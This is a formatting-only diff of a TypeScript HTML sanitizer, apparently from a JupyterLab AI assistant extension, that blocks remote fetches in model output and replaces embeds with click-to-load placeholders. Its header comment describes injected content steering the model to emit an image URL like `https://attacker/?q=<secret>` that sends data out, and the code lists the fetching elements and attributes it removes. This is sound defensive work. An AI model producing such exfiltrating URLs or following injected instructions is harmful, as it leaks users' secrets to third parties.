@@ -1,7 +1,6 @@
 import type { IRenderMime } from '@jupyterlab/rendermime-interfaces';
 import type { TranslationBundle } from '@jupyterlab/translation';
 
-
 /**
  * Model output is steerable by anything the model read (files, outputs, web
  * pages). An image URL such as `https://attacker/?q=<secret>` would send data
@@ -18,11 +17,34 @@ export const BLOCKED_ATTRIBUTE = 'data-de-blocked';
 export const BLOCKED_CLASS = 'jp-DataEngineer-blockedContent';
 
 /** Elements that only load things; never useful in a reply. */
-const DROPPED = new Set(['link', 'meta', 'base', 'script', 'style', 'frameset', 'noscript']);
+const DROPPED = new Set([
+  'link',
+  'meta',
+  'base',
+  'script',
+  'style',
+  'frameset',
+  'noscript'
+]);
 /** Elements whose remote content becomes a click-to-load placeholder. */
-const EMBEDS = new Set(['img', 'picture', 'video', 'audio', 'iframe', 'frame', 'portal', 'object', 'embed', 'applet']);
+const EMBEDS = new Set([
+  'img',
+  'picture',
+  'video',
+  'audio',
+  'iframe',
+  'frame',
+  'portal',
+  'object',
+  'embed',
+  'applet'
+]);
 
-function placeholderText(name: string, host: string, trans: TranslationBundle): string {
+function placeholderText(
+  name: string,
+  host: string,
+  trans: TranslationBundle
+): string {
   switch (name) {
     case 'img':
     case 'picture':
@@ -32,11 +54,24 @@ function placeholderText(name: string, host: string, trans: TranslationBundle): 
     case 'audio':
       return trans.__('Audio from %1 not loaded: click to load', host);
     default:
-      return trans.__('Embedded content from %1 not loaded: click to load', host);
+      return trans.__(
+        'Embedded content from %1 not loaded: click to load',
+        host
+      );
   }
 }
 /** Attributes the browser fetches by itself. (`href` counts except on links.) */
-const FETCHED = ['src', 'poster', 'data', 'background', 'lowsrc', 'dynsrc', 'href', 'xlink:href', 'codebase'];
+const FETCHED = [
+  'src',
+  'poster',
+  'data',
+  'background',
+  'lowsrc',
+  'dynsrc',
+  'href',
+  'xlink:href',
+  'codebase'
+];
 const FETCHED_LISTS = ['srcset', 'imagesrcset'];
 
 /** True for a URL that stays on `origin` (relative, data:, blob: of ours, attachments). */
@@ -47,7 +82,9 @@ export function isLocalUrl(url: string, origin: string): boolean {
   }
   try {
     const parsed = new URL(value, origin + '/');
-    return parsed.origin === origin && /^(?:https?|blob):$/.test(parsed.protocol);
+    return (
+      parsed.origin === origin && /^(?:https?|blob):$/.test(parsed.protocol)
+    );
   } catch {
     return false;
   }
@@ -74,7 +111,10 @@ const ALL_FETCHED = [...FETCHED, ...FETCHED_LISTS, 'srcdoc'];
 /** The remote URL that attribute `name` of `el` would fetch by itself, or null. */
 function remoteValue(el: Element, name: string, origin: string): string | null {
   const value = el.getAttribute(name);
-  if (value === null || (name === 'href' && (el.localName === 'a' || el.localName === 'area'))) {
+  if (
+    value === null ||
+    (name === 'href' && (el.localName === 'a' || el.localName === 'area'))
+  ) {
     return null;
   }
   if (name === 'srcdoc') {
@@ -100,7 +140,10 @@ function remoteUrlOf(el: Element, origin: string): string | null {
 const CSS_URL = /url\(\s*(?:"([^"]*)"|'([^']*)'|([^)]*?))\s*\)/gi;
 
 /** A style attribute without remote url()s; null when it must go whole. */
-export function styleWithoutRemoteUrls(style: string, origin: string): string | null {
+export function styleWithoutRemoteUrls(
+  style: string,
+  origin: string
+): string | null {
   // Escapes (\75 rl), image-set("...") and @import fetch without a plain url().
   if (/\\|image-set\s*\(|@import|expression\s*\(|src\s*\(/i.test(style)) {
     return null;
@@ -119,7 +162,9 @@ export function hardenLinks(root: ParentNode, origin: string): void {
       return;
     }
     a.setAttribute('target', '_blank');
-    const rel = new Set((a.getAttribute('rel') ?? '').split(/\s+/).filter(Boolean));
+    const rel = new Set(
+      (a.getAttribute('rel') ?? '').split(/\s+/).filter(Boolean)
+    );
     rel.delete('opener');
     rel.add('noopener');
     rel.add('noreferrer');
@@ -128,18 +173,35 @@ export function hardenLinks(root: ParentNode, origin: string): void {
   });
 }
 
-function placeholder(doc: Document, el: Element, url: string, origin: string, trans: TranslationBundle): Element {
+function placeholder(
+  doc: Document,
+  el: Element,
+  url: string,
+  origin: string,
+  trans: TranslationBundle
+): Element {
   const button = doc.createElement('button');
   button.setAttribute('type', 'button');
   button.className = BLOCKED_CLASS;
   button.setAttribute(BLOCKED_ATTRIBUTE, el.outerHTML);
-  button.textContent = placeholderText(el.localName, hostOf(url, origin), trans);
-  button.setAttribute('title', trans.__('Loading it sends a request to %1', url.slice(0, 300)));
+  button.textContent = placeholderText(
+    el.localName,
+    hostOf(url, origin),
+    trans
+  );
+  button.setAttribute(
+    'title',
+    trans.__('Loading it sends a request to %1', url.slice(0, 300))
+  );
   return button;
 }
 
 /** Sanitised HTML with nothing left that fetches from another origin by itself. */
-export function blockRemoteContent(html: string, origin: string, trans: TranslationBundle): string {
+export function blockRemoteContent(
+  html: string,
+  origin: string,
+  trans: TranslationBundle
+): string {
   // An inert document (no browsing context): parsing here loads nothing.
   const doc = document.implementation.createHTMLDocument('');
   const template = doc.createElement('template');
@@ -158,7 +220,12 @@ export function blockRemoteContent(html: string, origin: string, trans: Translat
       const remote = [el, ...Array.from(el.querySelectorAll('*'))]
         .map(e => remoteUrlOf(e, origin))
         .find(u => u !== null);
-      if (name === 'img' && remote && isLocalUrl(el.getAttribute('src') ?? '', origin) && el.hasAttribute('src')) {
+      if (
+        name === 'img' &&
+        remote &&
+        isLocalUrl(el.getAttribute('src') ?? '', origin) &&
+        el.hasAttribute('src')
+      ) {
         // A local image with a remote srcset candidate: keep the local one.
         el.removeAttribute('srcset');
         el.removeAttribute('sizes');
@@ -197,7 +264,11 @@ export function restoreBlocked(button: Element): void {
 
 /** JupyterLab's sanitiser followed by `blockRemoteContent`. */
 export class NoRemoteFetchSanitizer implements IRenderMime.ISanitizer {
-  constructor(base: IRenderMime.ISanitizer, trans: TranslationBundle, origin: string = window.location.origin) {
+  constructor(
+    base: IRenderMime.ISanitizer,
+    trans: TranslationBundle,
+    origin: string = window.location.origin
+  ) {
     this._base = base;
     this._trans = trans;
     this._origin = origin;
@@ -213,7 +284,11 @@ export class NoRemoteFetchSanitizer implements IRenderMime.ISanitizer {
   }
 
   sanitize(dirty: string, options?: IRenderMime.ISanitizerOptions): string {
-    return blockRemoteContent(this._base.sanitize(dirty, options), this._origin, this._trans);
+    return blockRemoteContent(
+      this._base.sanitize(dirty, options),
+      this._origin,
+      this._trans
+    );
   }
 
   private _base: IRenderMime.ISanitizer;
